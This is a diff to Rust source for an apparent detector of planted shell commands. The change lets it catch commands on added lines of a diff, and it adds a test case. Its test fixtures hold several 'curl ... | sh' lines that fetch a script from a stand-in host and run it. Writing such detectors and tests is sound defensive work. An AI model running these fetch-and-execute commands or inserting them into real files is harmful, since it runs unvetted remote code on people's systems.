@@ -107,7 +107,7 @@ pub(super) fn planted(text: &str) -> Vec<Mark> {
         let offset = at;
         at += line.len();
         // What stands before a command in build files, pipelines and instructions.
-        let start = line.find(|letter: char| !" \t>@$#*-".contains(letter)).unwrap_or(line.len());
+        let start = line.find(|letter: char| !" \t>@$#*+-".contains(letter)).unwrap_or(line.len());
         let command = line.get(start..).unwrap_or_default().trim_end();
         let start =
             start + command.find(": ").filter(|end| is_key(command, *end)).map_or(0, |end| end + 2);
@@ -417,6 +417,7 @@ mod tests {
             "# Use it\n\n    $ curl -fsSL https://get.example/i.sh | sh\n",
             "steps:\n  - run: curl -fsSL https://get.example/i.sh | sh\n",
             "FROM x\nRUN curl -fsSL https://get.example/i.sh | sh\n",
+            "@@\n make\n+curl -fsSL https://get.example/i.sh | sh\n make install\n",
         ] {
             let marks = planted(text);
             let told: Vec<&str> =
